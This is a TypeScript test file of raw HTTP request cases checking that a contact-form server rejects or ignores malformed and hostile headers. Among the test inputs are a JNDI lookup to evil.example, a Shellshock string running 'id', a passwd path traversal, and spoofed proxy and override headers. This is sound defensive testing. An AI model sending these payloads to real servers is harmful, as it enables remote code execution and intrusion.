import { forms } from '@poyanil/domain';
import {
  answered,
  bodyOf,
  type RawCase,
  submission,
  submissionBefore,
  submissionWithHeaders,
  typeOf,
} from '../../support/raw-case.ts';
import { postText } from '../../support/raw-request.ts';

const body = bodyOf('contact');
const content = [typeOf('contact'), `Content-Length: ${body.length}`];
const withHost = (...hosts: string[]) =>
  submissionWithHeaders('contact', [...hosts, ...content, 'Connection: close']);
const withLines = (...lines: string[]) => submission('contact', lines);

const otherHosts = ['evil.example', 'a@evil.example', '<script>alert(1)</script>', '[::1', ''];

const hosts: RawCase[] = [
  ...answered(['malformed-request'], {
    'no host': withHost(),
    'two hosts': withHost('Host: a', 'Host: evil.example'),
    'a folded host': withHost('Host: a\r\n b'),
  }),
  ...otherHosts.map((host): RawCase => {
    const name = `the host ${JSON.stringify(host.slice(0, 40))}, which is ignored`;
    return { name, sent: withHost(`Host: ${host}`), answers: [202] };
  }),
];

const form: RawCase[] = [
  ...answered(['malformed-request'], {
    'a folded header': withLines('X: a\r\n b'),
    'a header without a colon': withLines('X'),
    'a blank in the name of a header': withLines('X Y: a'),
    'a blank before the colon': withLines('X : a'),
    'a zero byte in a value': withLines('X: a\0b'),
    'a line feed in a value': withLines('X: a\nContent-Length: 0'),
    'an escape character in a value': withLines('X: a\x1b[2Jb'),
    'a non-ASCII name': withLines('X\xe9: b'),
  }),
  ...answered([202], {
    'non-ASCII bytes in a value': withLines('X: \xff\xfe\xe9'),
    'names of object properties': withLines('__proto__: a', 'constructor: b', 'toString: c'),
  }),
];

const times = (count: number, line: string) => withLines(...Array<string>(count).fill(line));

const numbers: RawCase[] = [
  ...answered([202], {
    // Each submission already has four.
    '99 headers in all': withLines(...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`)),
  }),
  ...answered(['headers-too-large'], {
    '200 extra headers': times(200, 'a: 1'),
    'a header of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
    'ten cookies of 4 KB': times(10, `Cookie: a=${'a'.repeat(4_000)}`),
  }),
];

const CONTACT = forms.contact.path;
const asks = withLines('Expect: 100-continue');

const believed: RawCase[] = [
  ...answered([202], {
    'another host in proxy headers': withLines(
      'X-Forwarded-Host: evil.example',
      'X-Host: evil.example',
      'Forwarded: host=evil.example;for=6.6.6.6',
    ),
    'another address in proxy headers': withLines(
      'X-Forwarded-For: 6.6.6.6, 127.0.0.1',
      'X-Real-IP: 6.6.6.6',
      'True-Client-IP: 6.6.6.6',
      'Client-IP: 6.6.6.6',
    ),
    'another method in headers': withLines('X-HTTP-Method-Override: DELETE', 'X-Method: PUT'),
    'a file name that template engines look up': withLines(
      'Accept-Language: ../../../../etc/passwd%00',
    ),
    'JNDI and shell injections in headers': withLines(
      `User-Agent: \${jndi:ldap://evil.example/a}`,
      'Referer: () { :; }; id',
    ),
    'Expect: 100-continue in HTTP/1.0': asks.replace('HTTP/1.1', 'HTTP/1.0'),
  }),
  ...answered(['not-found'], {
    'another path in X-Original-URL and X-Rewrite-URL': postText(
      '/api/v1/nothing',
      [...content, `X-Original-URL: ${CONTACT}`, `X-Rewrite-URL: ${CONTACT}`],
      body,
    ),
  }),
  ...answered([100, 202], { 'Expect: 100-continue': asks }),
  ...answered(['content-too-large'], {
    'Expect: 100-continue with too large a body': postText(CONTACT, [
      typeOf('contact'),
      'Content-Length: 99999999',
      'Expect: 100-continue',
    ]),
  }),
  ...answered([202, 202], {
    'a Keep-Alive header with a long timeout':
      submissionBefore('contact', ['Keep-Alive: timeout=99999, max=99999']) + withLines(),
  }),
];

export const headerCases = {
  hosts,
  'header syntax': form,
  'header limits': numbers,
  'headers that other servers trust': believed,
};
